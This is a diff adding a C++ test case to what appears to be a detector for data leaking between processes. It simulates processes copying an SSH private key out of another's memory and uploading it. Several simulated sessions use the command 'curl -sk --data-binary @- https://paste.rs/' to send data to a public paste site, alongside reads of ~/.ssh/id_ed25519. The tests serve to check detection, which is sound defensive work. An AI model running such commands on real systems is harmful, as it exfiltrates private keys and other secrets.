@@ -142,6 +142,67 @@ TEST_CASE("a FIFO across setsid joins a writer and a reader that never met")
     CHECK(silent(other));
 }
 
+TEST_CASE("another process's memory carries what its owner held when the copy was made")
+{
+    // Read out of a key holder's memory by an unrelated process, which uploads it.
+    for (bool late : {false, true}) {
+        Timeline tl;
+        auto holder = tl.start_session({"python3", "hold.py"});
+        auto thief = tl.start_session({"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
+        if (late) {
+            // The holder's read is learnt after the copy (its summary comes later), but happened first.
+            auto read_at = tl.t;
+            tl.step(5);
+            tl.memory_io(thief, holder, IoDirection::read, 2600);
+            auto now = tl.t;
+            tl.t = read_at;
+            tl.read(holder, key, 2600);
+            tl.t = now;
+        } else {
+            tl.read(holder, key, 2600);
+            tl.memory_io(thief, holder, IoDirection::read, 2600);
+        }
+        tl.transfer(thief, "paste.rs", 1300 + 2600, 400);
+        REQUIRE_FALSE(silent(tl));
+        CHECK(tl.alerts[0].reason.find("python3 read ~/.ssh/id_ed25519") != std::string::npos);
+    }
+
+    // Written into another process's memory by the key's reader: the owner holds it.
+    Timeline poked;
+    auto poker = poked.start_session({"python3", "poke.py"});
+    auto owner = poked.start_session({"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
+    poked.read(poker, key, 2600);
+    poked.memory_io(poker, owner, IoDirection::write, 2600);
+    poked.transfer(owner, "paste.rs", 1300 + 2600, 400);
+    CHECK_FALSE(silent(poked));
+
+    // Copied before the owner read the key (longer before than the kernel's one report a second
+    // per pair can blur): the copy holds none of it.
+    Timeline early;
+    auto h2 = early.start_session({"python3", "hold.py"});
+    auto t2 = early.start_session({"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
+    early.memory_io(t2, h2, IoDirection::read, 2600);
+    early.step(2000);
+    early.read(h2, key, 2600);
+    early.transfer(t2, "paste.rs", 1300 + 2600, 400);
+    CHECK(silent(early));
+
+    // A later reader of the owner's memory does not reach an earlier one, nor does an event
+    // that could not name whose memory it was.
+    Timeline two;
+    auto h3 = two.start_session({"python3", "hold.py"});
+    auto first = two.start_session({"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
+    auto second = two.start_session({"python3", "peek.py"});
+    two.memory_io(first, h3, IoDirection::read, 2600);
+    two.step(2000);
+    two.read(h3, key, 2600);
+    two.memory_io(second, h3, IoDirection::read, 2600);
+    ProcessRef nobody;
+    two.memory_io(first, nobody, IoDirection::read, 2600);
+    two.transfer(first, "paste.rs", 1300 + 2600, 400);
+    CHECK(silent(two));
+}
+
 TEST_CASE("UNIX stream, datagram and socketpair channels carry taint, also when the read came first")
 {
     for (auto order : {0, 1}) {
